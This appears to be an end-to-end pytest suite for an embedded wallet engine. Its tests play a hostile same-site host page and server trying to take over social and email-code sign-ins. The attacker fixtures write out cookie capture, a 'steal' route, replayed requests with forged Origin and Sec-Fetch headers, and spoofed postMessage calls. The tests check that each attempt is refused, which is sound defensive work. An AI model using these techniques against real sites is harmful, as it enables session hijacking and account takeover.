"""Issue 38 item 1 in Chromium, from the attacker's side: a host page on another origin of the
engine's own site (127.0.0.1 on another port: same site, so SameSite=Strict cookies travel
between them, and cookies ignore ports altogether) tries to take over a social sign-in.

The host's server starts the sign-in with the host page's own key (forging any header it
likes), the host page opens the provider in a popup it owns, the visitor signs in there, and
then the host page posts the finish with `credentials: 'include'` and `mode: 'no-cors'`, and
also routes any cookie of the engine's host name to its own server, which posts the finish
again with forged headers. Nothing registers the host's key: the finish must come from an
engine-origin document with the grant only the engine's popup page holds and the value only the
frame that began the sign-in holds; the sign-in the visitor then makes in the engine's own frame
works, and the host's key still cannot approve."""

from __future__ import annotations

import time

import hashlib
import sqlite3
from base64 import urlsafe_b64decode
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse
from starlette.routing import Route

from modalcore_dev.devchain.pytest_plugin import ChainsInfo
from modalcore_dev.devoidc import DevOidcProvider
from modalcore_testing import RunningServer, serve_app

from modalcore_dev.devmail import LocalSmtpServer

from .conftest import TIMEOUT_MS, host_connected, serve, sign_in_at_provider
from .test_embedded_browser import HOST_PAGE, code_field, code_for, embedded_engine_config

pytestmark = [pytest.mark.e2e, pytest.mark.chain]

# what the host page runs: its own non-extractable key, as a real attacker's page would make it
HOST_KEY = """async () => {
  window.hostKey = await crypto.subtle.generateKey({name: 'ECDSA', namedCurve: 'P-256'}, false, ['sign', 'verify']);
  const spki = new Uint8Array(await crypto.subtle.exportKey('spki', window.hostKey.publicKey));
  return btoa(String.fromCharCode(...spki)).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
}"""
HOST_SIGN = """async (text) => {
  const sig = await crypto.subtle.sign({name: 'ECDSA', hash: 'SHA-256'}, window.hostKey.privateKey,
                                       new TextEncoder().encode(text));
  return btoa(String.fromCharCode(...new Uint8Array(sig))).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
}"""
# the host page posts the finish to the engine (same site: the engine's cookies go along), and
# to its own server's copy of that path (same host name: the engine's cookies go there too)
HOST_FINISH = """async ([engine, signature]) => {
  const body = JSON.stringify({signature, grant: window.stolenGrant || '', bind: 'host-made'});
  await fetch(engine + '/embedded/social/finish', {method: 'POST', body, credentials: 'include', mode: 'no-cors',
                                                   headers: {'Content-Type': 'text/plain'}});
  await fetch('/embedded/social/finish', {method: 'POST', body, credentials: 'include'});
}"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("same-site-e2e")


@pytest.fixture(scope="module")
def smtp() -> Iterator[LocalSmtpServer]:
    server = LocalSmtpServer().start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def engine(devchains: ChainsInfo, provider: DevOidcProvider, engine_port: int, folder: Path,
           smtp: LocalSmtpServer) -> Iterator[RunningServer]:
    config = embedded_engine_config(folder, devchains, {
        "public_url": f"http://127.0.0.1:{engine_port}",
        "socials": {"google": {"issuer": provider.issuer, "client_id": provider.client_id}},
        "smtp": {"host": "127.0.0.1", "port": smtp.port, "tls": "none", "sender": "Wallet <no-reply@modal.test>"},
    })
    with serve(config, engine_port) as running:
        yield running


class HostServer:
    """The host dApp's server: its page, and a copy of the engine's finish path that records
    whatever cookies the visitor's browser sends it (cookies do not know ports)."""

    def __init__(self, engine: RunningServer) -> None:
        self.engine = engine
        self.stolen: list[str] = []
        self.url = ""

    def app(self) -> Starlette:
        async def page(request: Request) -> HTMLResponse:
            return HTMLResponse(HOST_PAGE % {"engine": self.engine.http_url, "siwx": "", "theme": ""})

        async def steal(request: Request) -> JSONResponse:
            self.stolen.append(request.headers.get("cookie", ""))
            return JSONResponse({})

        return Starlette(routes=[Route("/", page), Route("/embedded/social/finish", steal, methods=["POST"])])


@pytest.fixture(scope="module")
def host(engine: RunningServer) -> Iterator[HostServer]:
    server = HostServer(engine)
    with serve_app(server.app()) as running:
        server.url = running.http_url
        yield server


def _key_id(spki: str) -> str:
    return hashlib.sha256(urlsafe_b64decode(spki + "=" * (-len(spki) % 4))).hexdigest()


def _registered(folder: Path, spki: str) -> list[str]:
    """The identities the engine's db registered this key for."""
    with sqlite3.connect(folder / "embedded.db") as db:
        return [row[0] for row in db.execute("SELECT identity FROM device_keys WHERE key_id = ?", (_key_id(spki),))]


def _through_the_provider(popup: Any, provider: DevOidcProvider) -> None:
    """The visitor in the popup until the provider sends it back (it may remember the login and
    the consent: then the popup is back, and may have closed itself, at once)."""
    from playwright.sync_api import Error

    try:
        popup.wait_for_url(lambda u: u.startswith(provider.issuer) or "/embedded/oidc/callback/" in u)
    except Error:
        assert popup.is_closed()
        return
    deadline = time.monotonic() + TIMEOUT_MS / 1000
    while not popup.is_closed() and "/embedded/oidc/callback/" not in popup.url:
        assert time.monotonic() < deadline, f"the provider's pages never led back: {popup.url}"
        buttons = popup.locator('button[type="submit"]')
        if popup.locator('input[name="login"]').count():
            sign_in_at_provider(popup, provider)
            break
        if buttons.count():
            buttons.first.click()
        popup.wait_for_timeout(50)


def _forged(engine: RunningServer, session: str) -> dict[str, str]:
    """Every header of an engine-origin fetch, as the host's server forges them."""
    return {"Origin": engine.http_url, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors",
            "Sec-Fetch-Dest": "empty", "Referer": engine.http_url + "/embedded/social?session=" + session}


# the host page keeps the window the renderer opens in the click (it may wrap window.open)
CATCH_WINDOW = """() => { const open = window.open;
  window.open = (...args) => (window.caught = open.apply(window, args)); }"""
# the host page posts what engine pages post, from its own origin, to the frame (in the
# renderer's open shadow root): a confirmation for its own state, a finish, a greeting
HOST_MESSAGES = """(state) => { const frame = [...document.querySelectorAll('*')].map((e) => e.shadowRoot)
  .filter(Boolean).map((r) => r.querySelector('iframe.wm-frame')).find(Boolean);
  for (const data of [{modalcore: 'social-confirm', state}, {modalcore: 'social-finished', ok: true},
                      {modalcore: 'social-hello'}])
    frame.contentWindow.postMessage(data, '*');
  return Boolean(frame); }"""


def test_a_host_that_navigates_the_one_press_window_gains_nothing(
        browser: Any, engine: RunningServer, host: HostServer, provider: DevOidcProvider, folder: Path) -> None:
    """Issue 39: one press on Connect opens the engine's window from the host page's click, so
    the host page is that window's opener and holds it. Its server begins a sign-in for the host
    page's key and the page navigates the window there; the visitor signs in at the provider.
    The callback asks its opener (the host page, which never gets the question) and the frame
    that greets it: the frame confirms only the state it began. The host page also posts a
    confirmation, a finish and a greeting to the frame from its own origin: ignored. The host's
    key is registered for nothing and the session is not signed in; the visitor's own sign-in
    then works."""
    from playwright.sync_api import expect

    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(TIMEOUT_MS)
    try:
        page = context.new_page()
        page.goto(host.url)
        page.wait_for_function("window.hostModal !== undefined")
        page.evaluate(CATCH_WINDOW)
        page.click("#open")
        with page.expect_popup(timeout=TIMEOUT_MS) as opened:
            page.locator('.wm-card[data-view="Connect"]').get_by_role("button", name="Continue with Google").click()
        window = opened.value
        window.wait_for_url("**/interaction/**")  # the frame took the window and sent it to the provider
        frame = page.locator("iframe.wm-frame")
        session = str(frame.get_attribute("src")).split("session=", 1)[1].split("&", 1)[0]
        host_spki = page.evaluate(HOST_KEY)
        started = httpx.post(engine.http_url + "/embedded/verify/social", headers=_forged(engine, session),
                             timeout=10, json={"session": session, "public_key": host_spki, "bind": "h" * 43})
        assert started.status_code == 200, started.text  # the forged headers pass: the host's server may begin
        host_url = started.json()["url"]
        assert page.evaluate(HOST_MESSAGES, host_url.split("state=", 1)[1].split("&", 1)[0])
        before = window.url
        page.evaluate("(u) => { window.caught.location = u; }", host_url)
        window.wait_for_url(lambda u: "/interaction/" in u and u != before)
        _through_the_provider(window, provider)
        window.wait_for_url("**/embedded/oidc/callback/**")
        expect(window.locator("#text")).to_have_text("Confirming…")
        page.wait_for_timeout(1000)  # time for any confirmation to arrive: none does
        expect(window.locator("#text")).to_have_text("Confirming…")
        assert _registered(folder, host_spki) == []
        assert '"isConnected":true' not in page.locator("#account").inner_text()
        # the visitor presses the frame's button: that sign-in works, the host's key still nothing
        with page.expect_popup(timeout=TIMEOUT_MS) as second:
            page.frame_locator("iframe.wm-frame").get_by_role("button", name="Continue with Google").click()
        _through_the_provider(second.value, provider)
        host_connected(page)
        assert _registered(folder, host_spki) == []
    finally:
        context.close()


def test_a_host_on_the_same_site_cannot_take_over_a_social_sign_in(
        browser: Any, engine: RunningServer, host: HostServer, provider: DevOidcProvider, folder: Path) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(TIMEOUT_MS)
    try:
        page = context.new_page()
        page.goto(host.url)
        page.wait_for_function("window.hostModal !== undefined")
        page.click("#open")
        page.locator('.wm-card[data-view="Connect"]').get_by_text("Continue with Google").click()
        frame = page.locator("iframe.wm-frame")
        frame.wait_for(state="attached")
        session = str(frame.get_attribute("src")).split("session=", 1)[1].split("&", 1)[0]
        host_spki = page.evaluate(HOST_KEY)
        # 1. the host's server starts the sign-in for the host's key, with every header forged
        forged = {"Origin": engine.http_url, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors",
                  "Sec-Fetch-Dest": "empty", "Referer": engine.http_url + "/embedded/social?session=" + session}
        started = httpx.post(engine.http_url + "/embedded/verify/social", headers=forged, timeout=10,
                             json={"session": session, "public_key": host_spki, "bind": "host-made"})
        url = started.json().get("url", "") if started.status_code == 200 else ""
        if url:
            # 2. the host page opens it in a popup of its own; the visitor signs in there
            with page.expect_popup(timeout=TIMEOUT_MS) as opened:
                page.evaluate("(u) => { window.hostPopup = window.open(u, 'host-social', 'popup'); }", url)
            popup = opened.value
            sign_in_at_provider(popup, provider)
            popup.wait_for_url("**/embedded/oidc/callback/**")
            popup.wait_for_load_state()
            state = url.split("state=", 1)[1].split("&", 1)[0]
            # 3. the host page finishes it with its key: to the engine and to its own server
            signature = page.evaluate(HOST_SIGN, "modalcore-social\n" + state)
            page.evaluate(HOST_FINISH, [engine.http_url, signature])
            # 4. the host's server replays the finish with whatever cookie it caught, headers forged
            for cookie in [*host.stolen, ""]:
                answer = httpx.post(engine.http_url + "/embedded/social/finish", timeout=10,
                                    headers={**forged, "Cookie": cookie, "Content-Type": "application/json"},
                                    json={"signature": signature, "bind": "host-made"})
                assert answer.status_code == 403, answer.text
            if not popup.is_closed():
                popup.close()
        assert _registered(folder, host_spki) == []  # the host's key approves nothing
        assert '"isConnected":true' not in page.locator("#account").inner_text()
        # the visitor then signs in in the engine's own frame: that works, and its key is the one
        social = page.locator('.wm-card[data-view="ConnectingSocial"]')
        social.wait_for(state="visible")
        with page.expect_popup(timeout=TIMEOUT_MS) as opened:
            page.frame_locator("iframe.wm-frame").get_by_role("button", name="Continue with Google").click()
        _through_the_provider(opened.value, provider)
        host_connected(page)
        # a request waits in the approval frame: the host's key still cannot approve it
        [address] = page.evaluate("window.hostModal.getProvider().request({method: 'eth_accounts'})")
        page.evaluate("""(a) => { window.signed = undefined; window.hostModal.getProvider()
            .request({method: 'personal_sign', params: ['0x68656c6c6f', a]})
            .then((r) => { window.signed = r; }, (e) => { window.signed = e.code; }); }""", address)
        approval = page.locator('.wm-card[data-view="ApproveTransaction"] iframe.wm-frame')
        approval.wait_for(state="attached")
        request = str(approval.get_attribute("src")).split("request=", 1)[1].split("&", 1)[0]
        begun = httpx.post(engine.http_url + "/embedded/approve/begin", headers=forged, timeout=10,
                           json={"session": session, "request": request, "public_key": host_spki}).json()
        assert begun["registered"] is False
        assert _registered(folder, host_spki) == []
        page.wait_for_timeout(600)  # Chromium drops a click on a cross-origin frame that just moved
        page.frame_locator('.wm-card[data-view="ApproveTransaction"] iframe.wm-frame').get_by_role(
            "button", name="Reject").click()
        page.wait_for_function("window.signed !== undefined")  # bounded by the context's timeout
        assert page.evaluate("window.signed") == 4001
    finally:
        context.close()


# the host page posts a code it got hold of (its own fake field, in a real attack) to the engine,
# signed by its own key, as the frame would: same site, so the engine's cookies would go along
HOST_SIGNIN = """async ([engine, body]) => {
  await fetch(engine + '/embedded/signin', {method: 'POST', body: JSON.stringify(body), credentials: 'include',
                                             mode: 'no-cors', headers: {'Content-Type': 'text/plain'}});
}"""


def test_a_host_on_the_same_site_cannot_post_the_email_code_from_its_page(
        browser: Any, engine: RunningServer, host: HostServer, smtp: LocalSmtpServer, folder: Path) -> None:
    """Chromium marks the host page's request `Sec-Fetch-Site: same-site`: refused before the code
    is compared; the visitor's code, typed in the engine's frame, then signs in (not spent)."""
    email = "ada@example.com"
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(TIMEOUT_MS)
    try:
        page = context.new_page()
        page.goto(host.url)
        page.wait_for_function("window.hostModal !== undefined")
        page.click("#open")
        card = page.locator('.wm-card[data-view="Connect"]')
        card.get_by_label("Email").fill(email)
        card.get_by_role("button", name="Continue", exact=True).click()
        frame = page.locator('.wm-card[data-view="EmailVerifyOtp"] iframe.wm-frame')
        frame.wait_for(state="attached")
        session = str(frame.get_attribute("src")).split("session=", 1)[1].split("&", 1)[0]
        code = code_for(smtp, email)
        host_spki = page.evaluate(HOST_KEY)
        signature = page.evaluate(HOST_SIGN, f"modalcore-register\n{session}\n{code}")
        page.evaluate(HOST_SIGNIN, [engine.http_url, {"session": session, "code": code, "public_key": host_spki,
                                                      "signature": signature}])
        assert _registered(folder, host_spki) == []
        assert '"isConnected":true' not in page.locator("#account").inner_text()
        code_field(page).click()
        page.keyboard.type(code)
        host_connected(page)
        assert _registered(folder, host_spki) == []
    finally:
        context.close()


def test_a_host_that_fakes_the_window_page_only_makes_the_frame_close_a_blank_window(
        browser: Any, engine: RunningServer, host: HostServer, provider: DevOidcProvider) -> None:
    """Issue 39: the frame looks for the one-press window only when the engine served its page
    for the session. A host with no window (its window.open refused) has its server GET that page
    and reloads the frame: the frame's lookup finds no window, closes the blank one it made (a
    popup blocker would refuse it: there is no user activation in the frame), says nothing that
    is not on screen, and its own button still opens the provider."""
    from playwright.sync_api import expect

    context = browser.new_context(viewport={"width": 1280, "height": 800})
    context.set_default_timeout(TIMEOUT_MS)
    context.add_init_script("if (location.origin === %r) window.open = () => null;" % host.url.rstrip("/"))
    try:
        page = context.new_page()
        page.goto(host.url)
        page.wait_for_function("window.hostModal !== undefined")
        page.click("#open")
        page.locator('.wm-card[data-view="Connect"]').get_by_role("button", name="Continue with Google").click()
        frame = page.locator("iframe.wm-frame")
        frame.wait_for(state="attached")
        session = str(frame.get_attribute("src")).split("session=", 1)[1].split("&", 1)[0]
        served = httpx.get(engine.http_url + "/embedded/social/window", timeout=10,
                           params={"session": session, "provider": "google"})
        assert served.status_code == 200
        with context.expect_page(timeout=TIMEOUT_MS) as made:  # Playwright's Chromium blocks no popup
            page.evaluate("""() => { const f = [...document.querySelectorAll('*')].map((e) => e.shadowRoot)
              .filter(Boolean).map((r) => r.querySelector('iframe.wm-frame')).find(Boolean); f.src = f.src; }""")
        if not made.value.is_closed():
            made.value.wait_for_event("close", timeout=TIMEOUT_MS)  # the frame closed what its lookup made
        inside = page.frame_locator("iframe.wm-frame")
        inside.get_by_role("button", name="Continue with Google").wait_for(state="visible")
        expect(inside.get_by_text("Connect in the provider window")).to_have_count(0)
        with page.expect_popup(timeout=TIMEOUT_MS) as window:
            inside.get_by_role("button", name="Continue with Google").click()
        window.value.wait_for_url(provider.issuer + "/**")
        expect(inside.get_by_text("Connect in the provider window")).to_be_visible()
    finally:
        context.close()
